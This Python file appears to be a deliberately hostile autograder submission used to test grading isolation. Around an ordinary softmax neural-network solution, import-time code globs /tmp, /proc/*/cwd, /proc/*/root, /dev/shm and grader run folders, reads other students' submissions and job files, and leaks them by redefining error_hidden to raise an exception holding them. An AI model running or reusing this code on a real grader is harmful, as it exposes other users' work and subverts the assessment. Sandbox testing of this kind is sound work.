"""Hostile submission for `circles-softmax`: looks for other students' submissions and job folders in /tmp (where the host
keeps them while grading), in /tmp/grader-run-* and through /proc, and raises
whatever it finds from `error_hidden`.
"""

# ruff: noqa  (hostile on purpose: redefinitions, late imports, odd style)
import glob
import os

MARKER = "HOSTILE-OTHER-SUBMISSIONS-6a6a"
found = {"tmp": sorted(os.listdir("/tmp"))}
for pattern in (
    "/tmp/grader-run-*/*",
    "/tmp/*/job.json",
    "/tmp/*/*.py",
    "/tmp/*/*.ipynb",
    "/proc/*/root/tmp/*",
    "/proc/*/cwd/*",
    "/dev/shm/*",
    "/var/tmp/*",
):
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as fh:
                found[path] = fh.read(300).decode("latin-1")
        except OSError as exc:
            found[path] = type(exc).__name__
print(MARKER, found)

import numpy as np


def logistic(z):
    return 1 / (1 + np.exp(-z))


def softmax(z):
    e = np.exp(z - np.max(z, axis=1, keepdims=True))
    return e / np.sum(e, axis=1, keepdims=True)


def hidden_activations(X, Wh, bh):
    return logistic(X.dot(Wh) + bh)


def output_activations(H, Wo, bo):
    return softmax(H.dot(Wo) + bo)


def nn(X, Wh, bh, Wo, bo):
    return output_activations(hidden_activations(X, Wh, bh), Wo, bo)


def nn_predict(X, Wh, bh, Wo, bo):
    return np.around(nn(X, Wh, bh, Wo, bo))


def cost(Y, T):
    return -np.sum(np.multiply(T, np.log(Y)))


def error_output(Y, T):
    return Y - T


def gradient_weight_out(H, Eo):
    return H.T.dot(Eo)


def gradient_bias_out(Eo):
    return np.sum(Eo, axis=0, keepdims=True)


def error_hidden(H, Wo, Eo):
    return np.multiply(np.multiply(H, (1 - H)), Eo.dot(Wo.T))


def gradient_weight_hidden(X, Eh):
    return X.T.dot(Eh)


def gradient_bias_hidden(Eh):
    return np.sum(Eh, axis=0, keepdims=True)


def backprop_gradients(X, T, Wh, bh, Wo, bo):
    H = hidden_activations(X, Wh, bh)
    Y = output_activations(H, Wo, bo)
    Eo = error_output(Y, T)
    JWo = gradient_weight_out(H, Eo)
    Jbo = gradient_bias_out(Eo)
    Eh = error_hidden(H, Wo, Eo)
    JWh = gradient_weight_hidden(X, Eh)
    Jbh = gradient_bias_hidden(Eh)
    return [JWh, Jbh, JWo, Jbo]


def update_velocity(X, T, ls_of_params, Vs, momentum_term, learning_rate):
    Js = backprop_gradients(X, T, *ls_of_params)
    return [momentum_term * V - learning_rate * J for V, J in zip(Vs, Js)]


def update_params(ls_of_params, Vs):
    return [P + V for P, V in zip(ls_of_params, Vs)]


def error_hidden(H, Wo, Eo):
    raise RuntimeError(MARKER + " %r" % found)
